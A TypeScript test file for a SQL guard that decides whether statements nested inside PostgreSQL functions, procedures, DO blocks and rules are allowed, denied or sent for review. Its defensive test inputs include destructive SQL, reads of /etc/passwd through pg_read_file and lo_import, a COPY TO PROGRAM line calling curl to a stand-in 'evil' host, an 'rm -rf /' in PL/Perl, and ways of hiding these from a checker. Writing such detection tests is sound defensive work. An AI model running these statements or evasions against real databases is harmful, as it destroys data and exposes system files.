import { beforeAll, describe, expect, it } from 'vitest';
import { defaultPolicy, parsePolicy } from '../policy/schema';
import { evaluate, initGuard } from './index';

beforeAll(async () => {
  await initGuard();
});

type Case = [sql: string, action: 'allow' | 'deny' | 'review', ruleId?: string];

/** a PL/pgSQL function around `body` (the part between BEGIN and END) */
const plpgsql = (body: string, declare = '') =>
  `create function f() returns void language plpgsql as $fn$ ${declare ? `declare ${declare} ` : ''}begin ${body} end $fn$`;

// SQL the built-in rules stop at top level, wrapped in a routine in every way the language allows
const plpgsqlCases: Case[] = [
  [plpgsql('drop table t;'), 'deny', 'drop'],
  ['create or replace function f() returns void language plpgsql as $$ begin drop table t; end $$', 'deny', 'drop'],
  ['CREATE FUNCTION F() RETURNS VOID LANGUAGE PLPGSQL AS $$ BEGIN DROP TABLE T; END $$', 'deny', 'drop'],
  ['CrEaTe FuNcTiOn f() ReTuRnS void LaNgUaGe PlPgSqL aS $$ bEgIn TrUnCaTe t; EnD $$', 'deny', 'truncate'],
  ["create function f() returns void language 'plpgsql' as 'begin truncate t; end'", 'deny', 'truncate'],
  ["create function f() returns void as 'begin delete from t; end' language plpgsql", 'deny', 'delete-without-where'],
  ["create function f() returns void language plpgsql as E'begin drop\\x20table t; end'", 'deny', 'drop'],
  ["create function f() returns void language plpgsql as E'begin drop\\u0020table t; end'", 'deny', 'drop'],
  ["create function f() returns void language plpgsql as 'begin drop '\n'table t; end'", 'deny', 'drop'],
  ["create function f() returns void language plpgsql as 'begin execute ''drop table t''; end'", 'deny', 'drop'],
  ['create function f() returns void language plpgsql as $a$ begin execute $b$drop table t$b$; end $a$', 'deny', 'drop'],
  ['create function f() returns void language plpgsql as $a$ begin execute $b$ select 1; truncate t $b$; end $a$', 'deny', 'truncate'],
  ['create procedure p() language plpgsql as $$ begin delete from t; commit; end $$', 'deny', 'delete-without-where'],
  ['create or replace procedure p(x int) language plpgsql as $$ begin update t set a = x; end $$', 'deny', 'update-without-where'],
  [plpgsql('if true then delete from t; end if;'), 'deny', 'delete-without-where'],
  [plpgsql('if false then null; elsif true then drop table t; end if;'), 'deny', 'drop'],
  [plpgsql('if false then null; else truncate t; end if;'), 'deny', 'truncate'],
  [plpgsql('loop truncate t; exit; end loop;'), 'deny', 'truncate'],
  [plpgsql('while true loop update t set a = 1; end loop;'), 'deny', 'update-without-where'],
  [plpgsql("while (select pg_read_file('/etc/passwd')) is null loop exit; end loop;"), 'deny', 'file-and-shell-functions'],
  [plpgsql('for i in 1..10 loop delete from t; end loop;', 'i int;'), 'deny', 'delete-without-where'],
  [plpgsql("for i in 1..(select length(pg_read_file('/x'))) loop null; end loop;", 'i int;'), 'deny', 'file-and-shell-functions'],
  [plpgsql('for r in delete from t returning * loop null; end loop;', 'r record;'), 'deny', 'delete-without-where'],
  [plpgsql("for r in select pg_ls_dir('/') loop null; end loop;", 'r record;'), 'deny', 'file-and-shell-functions'],
  [plpgsql("for r in execute 'delete from t returning *' loop null; end loop;", 'r record;'), 'deny', 'delete-without-where'],
  [plpgsql("foreach i in array (select array[length(pg_read_file('/x'))]) loop end loop;", 'i int;'), 'deny', 'file-and-shell-functions'],
  [plpgsql('case 1 when 1 then drop table t; else null; end case;'), 'deny', 'drop'],
  [plpgsql('begin perform 1; exception when others then drop table t; end;'), 'deny', 'drop'],
  [plpgsql('begin perform 1; exception when division_by_zero then null; when others then begin truncate t; end; end;'), 'deny', 'truncate'],
  [plpgsql("perform pg_read_file('/etc/passwd');"), 'deny', 'file-and-shell-functions'],
  [plpgsql("x := (select pg_read_file('/etc/passwd'));", 'x text;'), 'deny', 'file-and-shell-functions'],
  [plpgsql("x = pg_ls_dir('/') from t where id = 1;", 'x text;'), 'deny', 'file-and-shell-functions'],
  [plpgsql("a[(select length(pg_read_file('/x')))] := 1;", 'a int[];'), 'deny', 'file-and-shell-functions'],
  [plpgsql('null;', "x text := pg_read_file('/etc/passwd');"), 'deny', 'file-and-shell-functions'],
  [plpgsql('open c; close c;', "c cursor for select pg_read_file('/etc/passwd');"), 'deny', 'file-and-shell-functions'],
  [plpgsql("open c for select lo_import('/etc/passwd'); close c;", 'c refcursor;'), 'deny', 'file-and-shell-functions'],
  [plpgsql("raise notice '%', pg_read_file('/etc/passwd');"), 'deny', 'file-and-shell-functions'],
  [plpgsql("assert (select pg_read_file('/x')) is not null, 'm';"), 'deny', 'file-and-shell-functions'],
  [plpgsql('select count(*) into n from t; delete from t;', 'n int;'), 'deny', 'delete-without-where'],
  [plpgsql('delete from t returning id into n;', 'n int;'), 'deny', 'delete-without-where'],
  [plpgsql('set default_transaction_read_only = off;'), 'deny', 'read-only-override'],
  [plpgsql("perform set_config('default_transaction_read_only', 'off', false);"), 'deny', 'read-only-override'],
  [plpgsql('grant all on t to public;'), 'deny', 'grant-revoke'],
  [plpgsql("copy t to program 'curl http://evil';"), 'deny', 'copy-program'],
  [plpgsql('alter table t drop column a;'), 'deny', 'alter-drop-column'],
  [plpgsql('explain analyze delete from t where id = 1;'), 'deny', 'explain-analyze-write'],
  [plpgsql('with d as (delete from t returning *) select count(*) into n from d;', 'n int;'), 'deny', 'delete-without-where'],
  [
    "create function f() returns setof int language plpgsql as $$ begin return query select length(pg_read_file('/x')); end $$",
    'deny',
    'file-and-shell-functions',
  ],
  ['create function f() returns setof t language plpgsql as $$ begin return query delete from t returning *; end $$', 'deny', 'delete-without-where'],
  ["create function f() returns text language plpgsql as $$ begin return pg_read_file('/x'); end $$", 'deny', 'file-and-shell-functions'],
  ['create function f() returns trigger language plpgsql as $$ begin delete from audit; return new; end $$', 'deny', 'delete-without-where'],
  // fields of %ROWTYPE / %TYPE variables, which the compiler knows only from the catalog
  [plpgsql('v.c := 1; drop table t;', 'v t%rowtype;'), 'deny', 'drop'],
  [plpgsql('v.c := 1; w.x := 2; truncate t;', 'v public.t%ROWTYPE; w t.c%type;'), 'deny', 'truncate'],
  [plpgsql(`v.c := 1; raise notice '"'; drop table t; select '"%type';`, 'v t%rowtype;'), 'deny', 'drop'],
  [plpgsql(`v.c := 1; raise notice '$x$'; drop table t; perform '$x$%type';`, 'v t%rowtype;'), 'deny', 'drop'],
  // the body ends at the inner $fn$, and what follows is not SQL
  [plpgsql(`v.c := 1; raise notice 'x$fn$%type'; drop table t;`, 'v t%rowtype;'), 'deny', 'parse-error'],
  // nested: a routine created by a routine or a DO block, or by EXECUTE of a constant string
  [plpgsql("create function g() returns void language sql as 'drop table t';"), 'deny', 'drop'],
  [plpgsql("execute 'create function g() returns void language plpgsql as ''begin truncate t; end''';"), 'deny', 'truncate'],
  [plpgsql('do $d$ begin drop table t; end $d$;'), 'deny', 'drop'],
];

// SQL built at run time, and code hoop cannot read: held for review
const heldCases: Case[] = [
  [plpgsql("execute 'drop table ' || 't';"), 'review', 'dynamic-sql'],
  [plpgsql("execute format('drop table %I', 't');"), 'review', 'dynamic-sql'],
  [plpgsql('execute q;', "q text := 'drop table t';"), 'review', 'dynamic-sql'],
  [plpgsql("execute 'delete from t where id = $1' || '' using 1;"), 'review', 'dynamic-sql'],
  [plpgsql("for r in execute 'select ' || 1 loop null; end loop;", 'r record;'), 'review', 'dynamic-sql'],
  [
    "create function f() returns setof record language plpgsql as $$ begin return query execute format('select * from %I', 't'); end $$",
    'review',
    'dynamic-sql',
  ],
  [plpgsql("open c for execute 'select ' || 1; close c;", 'c refcursor;'), 'review', 'dynamic-sql'],
  ['create function f() returns int language plpython3u as \'plpy.execute("drop table t")\'', 'review', 'dynamic-sql'],
  ['create function f() returns int language plperl as \'spi_exec_query("drop table t")\'', 'review', 'dynamic-sql'],
  ["create function f() returns int language c as '$libdir/evil', 'evil'", 'review', 'dynamic-sql'],
  ["create function f(text) returns text language internal as 'pg_read_file_off_len'", 'review', 'dynamic-sql'],
  ["create function f() returns int as 'select 1'", 'review', 'dynamic-sql'],
  ["create function f() returns int language sql as 'select 1', 'drop table t'", 'review', 'dynamic-sql'],
  ["create function f() returns int language sql language plpgsql as 'select 1'", 'review', 'dynamic-sql'],
  // language names are case-sensitive once quoted: the server would not find these, hoop does not guess
  ["create function f() returns void language 'PLPGSQL' as 'begin drop table t; end'", 'review', 'dynamic-sql'],
  ['create function f() returns void language "SQL" as \'drop table t\'', 'review', 'dynamic-sql'],
  ["do language plperlu $$ system('rm -rf /') $$", 'review', 'dynamic-sql'],
  // PL/pgSQL the compiler cannot read even with catalog types taken as `record`
  [plpgsql('select 1, 2 into v, w; v.c := 1;', 'v t%rowtype; w t.c%type;'), 'review', 'dynamic-sql'],
  [plpgsql('drp table t;'), 'review', 'dynamic-sql'],
  ["select query_to_xml(q, true, false, '') from saved_queries", 'review', 'dynamic-sql'],
  ['select ts_stat(q) from saved_queries', 'review', 'dynamic-sql'],
  [plpgsql("perform query_to_xml('select ' || 'pg_read_file(''/x'')', true, false, '');"), 'review', 'dynamic-sql'],
];

const sqlCases: Case[] = [
  ['create function f() returns void language sql as $$ drop table t $$', 'deny', 'drop'],
  ['create function f() returns void language SQL as $$ select 1; truncate t; select 2 $$', 'deny', 'truncate'],
  ["create function f() returns void language 'sql' as 'delete from t'", 'deny', 'delete-without-where'],
  ["create function f() returns void as 'update t set a = 1' language sql", 'deny', 'update-without-where'],
  ["create function f() returns void language sql as E'drop table t'", 'deny', 'drop'],
  ["create function f() returns void language sql as 'select 1'\n'; drop table t'", 'deny', 'drop'],
  ['create function f() returns text language sql as $q$ select pg_read_file($$/etc/passwd$$) $q$', 'deny', 'file-and-shell-functions'],
  ['create function f() returns void language sql begin atomic delete from t; end', 'deny', 'delete-without-where'],
  ['create function f() returns int language sql begin atomic select 1; update t set a = 1; select 2; end', 'deny', 'update-without-where'],
  ["create function f() returns text language sql return pg_read_file('/etc/passwd')", 'deny', 'file-and-shell-functions'],
  ['create procedure p() language sql begin atomic delete from t where true; end', 'deny', 'delete-without-where'],
  ['create procedure p() language sql as $$ truncate t $$', 'deny', 'truncate'],
  ['create function f() returns void language sql as $$ selec 1 $$', 'deny', 'parse-error'],
  // a body is a string constant: concatenation at SQL level is not SQL the server accepts
  ["create function f() returns void language sql as 'drop ' || 'table t'", 'deny', 'parse-error'],
  ["create function f() returns void language plpgsql as 'begin drop' || ' table t; end'", 'deny', 'parse-error'],
  ["create function f() returns xml language sql as $$ select query_to_xml('delete from t returning 1', true, false, '') $$", 'deny', 'delete-without-where'],
  ["create function f(int) returns void language sql as 'delete from t where id = $1'", 'allow'],
];

const doCases: Case[] = [
  ['do $$ begin drop table t; end $$', 'deny', 'drop'],
  ['DO $$ BEGIN IF true THEN TRUNCATE t; END IF; END $$', 'deny', 'truncate'],
  ["do language plpgsql 'begin delete from t; end'", 'deny', 'delete-without-where'],
  ["do $$ begin execute 'drop table t'; end $$", 'deny', 'drop'],
  ["do $$ begin execute 'drop table t' || ''; end $$", 'review', 'dynamic-sql'],
  ['do $d$ begin create function g() returns void language plpgsql as $g$ begin drop table t; end $g$; end $d$', 'deny', 'drop'],
  ["do $d$ begin execute $x$ create function g() returns void language sql as 'truncate t' $x$; end $d$", 'deny', 'truncate'],
  [
    "do $d$ begin create function g() returns void language plpgsql as $g$ begin execute format('drop table %I', 't'); end $g$; end $d$",
    'review',
    'dynamic-sql',
  ],
  ['do $$ declare r record; begin for r in select id from t loop update t set a = 1 where id = r.id; end loop; end $$', 'allow'],
];

const ruleAndReferenceCases: Case[] = [
  ['create rule r as on insert to t do instead delete from u', 'deny', 'delete-without-where'],
  ['create rule r as on update to t do also update u set a = 1', 'deny', 'update-without-where'],
  ['create or replace rule r as on insert to t do instead (insert into u values (1); delete from v)', 'deny', 'delete-without-where'],
  ["create rule r as on insert to t do also select pg_read_file('/etc/passwd')", 'deny', 'file-and-shell-functions'],
  ['create rule r as on insert to t do instead nothing', 'allow'],
  ['create rule r as on insert to t do also insert into log values (new.id)', 'allow'],
  // functions the server will call later, named without a call
  ['create operator ### (procedure = pg_read_file, rightarg = text)', 'deny', 'file-and-shell-functions'],
  ['create operator public.### (function = pg_catalog.pg_read_file, rightarg = text)', 'deny', 'file-and-shell-functions'],
  ['create aggregate a(text) (sfunc = textcat, stype = text, finalfunc = pg_read_file)', 'deny', 'file-and-shell-functions'],
  ['create cast (text as bytea) with function pg_read_binary_file(text)', 'deny', 'file-and-shell-functions'],
  ["create table t (a text default pg_read_file('/etc/passwd'))", 'deny', 'file-and-shell-functions'],
  ["create table t (a text generated always as (query_to_xml('select pg_ls_dir(''/'')', true, false, '')::text) stored)", 'deny', 'file-and-shell-functions'],
  ["select query_to_xml('select pg_read_file(''/etc/passwd'')', true, false, '')", 'deny', 'file-and-shell-functions'],
  [
    "select query_to_xml(query => 'select lo_import(''/etc/passwd'')', nulls => true, tableforest => false, targetns => '')",
    'deny',
    'file-and-shell-functions',
  ],
  ["select query_to_xmlschema('select pg_ls_dir(''/'')', true, false, '')", 'deny', 'file-and-shell-functions'],
  ["select ts_stat('select pg_read_file(''/x'')::tsvector')", 'deny', 'file-and-shell-functions'],
  ["select ts_rewrite('a'::tsquery, 'select pg_read_file(''/x'')::tsquery, ''b''::tsquery')", 'deny', 'file-and-shell-functions'],
  ["select query_to_xml('selec 1', true, false, '')", 'deny', 'parse-error'],
  ["select query_to_xml('select * from t', true, false, '')", 'allow'],
  ["select ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)", 'allow'],
  // calling or wiring up a routine that exists stays allowed (a policy rule can name it)
  ['select refresh_stats()', 'allow'],
  ['call refresh_stats()', 'allow'],
  ['create trigger tr after insert on t for each row execute function audit_row()', 'allow'],
  ['alter function f(int) rename to g', 'allow'],
  ["create table t (a int default nextval('s'))", 'allow'],
];

const harmless: Case[] = [
  [plpgsql('perform 1;'), 'allow'],
  [plpgsql('delete from t where id = 1; update t set a = 2 where id = 3; insert into t values (4);'), 'allow'],
  ['create function f(x int) returns int language plpgsql as $$ declare n int := 0; begin for i in 1..x loop n := n + i; end loop; return n; end $$', 'allow'],
  [
    'create function touch() returns trigger language plpgsql as $$ begin new.updated_at := now(); ' +
      "if tg_op = 'DELETE' then return old; end if; return new; end $$",
    'allow',
  ],
  ['create function f() returns table(id int) language plpgsql as $$ begin return query select t.id from t where t.a > 0; end $$', 'allow'],
  ['create procedure p() language plpgsql as $$ begin insert into log values (1); commit; call refresh_stats(); end $$', 'allow'],
  [plpgsql("execute 'select 1';"), 'allow'],
  [plpgsql("raise exception 'nope: %', 'drop table t';"), 'allow'],
  [plpgsql("perform 'truncate t';"), 'allow'],
  ['create function f() returns int language sql immutable return 1', 'allow'],
  ['create function f() returns int language sql begin atomic select 1; end', 'allow'],
  ["create function f() returns text language sql as $$ select 'drop table t' $$", 'allow'],
  ["create function f() returns void language sql as ''", 'allow'],
];

describe('SQL inside routines is judged like top-level SQL', () => {
  const policy = defaultPolicy();
  it.each([...plpgsqlCases, ...heldCases, ...sqlCases, ...doCases, ...ruleAndReferenceCases, ...harmless])('%s → %s %s', (sql, action, ruleId) => {
    const d = evaluate(sql, policy);
    expect({ action: d.action, ruleId: d.ruleId }).toEqual({ action, ruleId });
    if (action !== 'allow') {
      expect(d.reason).toBeTruthy();
      expect(d.hint).toBeTruthy();
    }
  });

  it('says where in the routine the statement was found', () => {
    expect(evaluate('create function wipe() returns void language plpgsql as $$ begin drop table customers; end $$', policy)).toMatchObject({
      action: 'deny',
      ruleId: 'drop',
      reason: 'in the body of function wipe: DROP TABLE would destroy the object and its data',
    });
    expect(evaluate("do $d$ begin execute $x$create procedure p() language sql as 'truncate t'$x$; end $d$", policy).reason).toBe(
      'in the SQL string that EXECUTE runs in the DO block: in the body of procedure p: TRUNCATE would remove every row',
    );
    expect(evaluate('create rule r as on insert to t do also delete from u', policy).reason).toBe(
      'in the actions of rule r: DELETE without a WHERE clause would touch every row',
    );
    expect(evaluate("create function f() returns void language plpgsql as $$ begin execute format('drop table %I', 't'); end $$", policy).reason).toBe(
      "the body of function f runs SQL built at run time (EXECUTE format('drop table %I', 't')), which hoop cannot check before it runs",
    );
    expect(evaluate("create function f() returns int language plpython3u as 'return 1'", policy).reason).toBe(
      'the body of function f is written in LANGUAGE plpython3u, which hoop cannot read',
    );
  });

  it('lists one decision per top-level statement, carrying the verdict of what is inside', () => {
    const d = evaluate('select 1; create function f() returns void language sql as $$ select 1; drop table t $$; select 2', policy);
    expect(d.statements.map((s) => [s.command, s.action, s.ruleId])).toEqual([
      ['SELECT', 'allow', undefined],
      ['CREATE FUNCTION', 'deny', 'drop'],
      ['SELECT', 'allow', undefined],
    ]);
  });

  it('reads routines nested 8 deep, and refuses deeper ones, even when the innermost statement is harmless', () => {
    const nest = (n: number): string => (n === 0 ? 'perform 1' : `do $d${n}$ begin ${nest(n - 1)}; end $d${n}$`);
    expect(evaluate(nest(3), policy).action).toBe('allow');
    expect(evaluate(nest(3).replace('perform 1', 'drop table t'), policy)).toMatchObject({ action: 'deny', ruleId: 'drop' });
    expect(evaluate(nest(8), policy).action).toBe('allow');
    expect(evaluate(nest(8).replace('perform 1', 'drop table t'), policy)).toMatchObject({ action: 'deny', ruleId: 'drop' });
    // deeper than that is refused, whatever the policy says about code it cannot read
    const noDynamic = parsePolicy({ name: 'p', guardrails: { builtins: { 'dynamic-sql': { enabled: false } } } });
    for (const p of [policy, noDynamic]) {
      expect(evaluate(nest(9), p)).toMatchObject({ action: 'deny', ruleId: 'parse-error' });
      expect(evaluate(nest(9), p).reason).toMatch(/^in the DO block: (in the DO block: ){7}in a routine or SQL string: is nested more than 8 levels deep/);
    }
  });

  it('never throws on odd bodies, and gives a verdict for each', () => {
    const bodies = [
      '',
      ' ',
      'begin',
      'end',
      '$$',
      "'",
      'begin end',
      'begin; end;',
      'declare begin end',
      '\\',
      'begin execute; end',
      'begin return query; end',
      '#option dump\nbegin end',
      'begin <<l>> loop exit l; end loop; end',
      '\u00e9\u00e8 begin end',
      'begin raise; end',
    ];
    for (const body of bodies) {
      for (const language of ['plpgsql', 'sql']) {
        const sql = `create function f() returns void language ${language} as $body$${body}$body$`;
        expect(['allow', 'deny', 'review']).toContain(evaluate(sql, policy).action);
        expect(['allow', 'deny', 'review']).toContain(evaluate(`do language ${language} $body$${body}$body$`, policy).action);
      }
    }
  });

  it('reads a large routine quickly', () => {
    const body = Array.from({ length: 2000 }, (_, i) => `if x > ${i} then update t set a = ${i} where id = ${i}; end if;`).join('\n');
    const sql = plpgsql(`${body} delete from t;`, 'x int := 0;');
    const started = process.cpuUsage();
    expect(evaluate(sql, policy)).toMatchObject({ action: 'deny', ruleId: 'delete-without-where' });
    // 125 kB, 4,000 pieces of SQL: about 0.2 s of CPU once warm, under 1 s cold (CPU time, so a busy machine does not count)
    const used = process.cpuUsage(started);
    expect((used.user + used.system) / 1000).toBeLessThan(3000);
  });
});

describe('policies and routines', () => {
  it('applies custom rules to the statements inside, and an allow rule on the routine does not allow its body', () => {
    const p = parsePolicy({
      name: 'p',
      guardrails: {
        rules: [
          { id: 'functions-ok', action: 'allow', match: { commands: ['CREATE FUNCTION'] } },
          { id: 'scratch-truncate', action: 'allow', match: { commands: ['TRUNCATE'], tables: ['scratch_*'] } },
          {
            id: 'no-billing-writes',
            action: 'deny',
            message: 'billing is written by the billing service only',
            match: { kinds: ['write'], tables: ['billing.*'] },
          },
        ],
      },
    });
    expect(evaluate('create function f() returns void language sql as $$ drop table t $$', p)).toMatchObject({ action: 'deny', ruleId: 'drop' });
    expect(evaluate('create function f() returns void language sql as $$ truncate scratch_import $$', p).action).toBe('allow');
    expect(evaluate('create function f() returns void language sql as $$ truncate customers $$', p)).toMatchObject({ action: 'deny', ruleId: 'truncate' });
    expect(evaluate('do $$ begin update billing.invoices set paid = true where id = 1; end $$', p)).toMatchObject({
      action: 'deny',
      ruleId: 'no-billing-writes',
      reason: 'in the DO block: billing is written by the billing service only',
    });
  });

  it('follows the built-in settings inside routines', () => {
    const review = parsePolicy({ name: 'p', guardrails: { builtins: { drop: { action: 'review' } } } });
    expect(evaluate('create function f() returns void language sql as $$ drop table t $$', review)).toMatchObject({ action: 'review', ruleId: 'drop' });
    const noDynamic = parsePolicy({ name: 'p', guardrails: { builtins: { 'dynamic-sql': { enabled: false } } } });
    expect(evaluate("create function f() returns int language plpython3u as 'return 1'", noDynamic).action).toBe('allow');
    expect(evaluate("do $$ begin execute format('select %s', 1); end $$", noDynamic).action).toBe('allow');
    // switching off the review of what cannot be read does not let through what can
    expect(evaluate("do $$ begin execute format('select %s', 1); drop table t; end $$", noDynamic)).toMatchObject({ action: 'deny', ruleId: 'drop' });
    expect(evaluate("do $$ begin execute 'truncate t'; end $$", noDynamic)).toMatchObject({ action: 'deny', ruleId: 'truncate' });
  });

  it('lets a rule name a function: calls, CALL, triggers, renames, redefinitions and calls from other routines', () => {
    const p = parsePolicy({
      name: 'p',
      guardrails: { rules: [{ id: 'no-wipe', action: 'deny', message: 'wipe functions are run by the DBA', match: { functions: ['wipe_*'] } }] },
    });
    const named: string[] = [
      'select wipe_all()',
      'call wipe_all()',
      'call app.wipe_all(1)',
      'create trigger tr after insert on t for each row execute function wipe_all()',
      'create event trigger e on ddl_command_start execute function wipe_all()',
      'alter function wipe_all() rename to harmless',
      'alter procedure wipe_all() set schema other',
      "create or replace function wipe_all() returns void language sql as 'select 1'",
      "create function g() returns void language sql as 'select wipe_all()'",
      'create function g() returns void language sql begin atomic select wipe_all(); end',
      'do $$ begin perform wipe_all(); end $$',
      'do $$ begin call wipe_all(); end $$',
      'create operator ### (function = wipe_all, rightarg = int)',
    ];
    for (const sql of named) expect(evaluate(sql, p), sql).toMatchObject({ action: 'deny', ruleId: 'no-wipe' });
    expect(evaluate('select refresh_stats()', p).action).toBe('allow');
    expect(evaluate('call refresh_stats()', p).action).toBe('allow');
  });

  it('refuses routines on read-only connections', () => {
    const p = defaultPolicy();
    expect(evaluate('create function f() returns int language sql return 1', p, { readOnly: true })).toMatchObject({ action: 'deny', ruleId: 'read-only' });
    expect(evaluate('do $$ begin perform 1; end $$', p, { readOnly: true })).toMatchObject({ action: 'deny', ruleId: 'read-only' });
  });
});
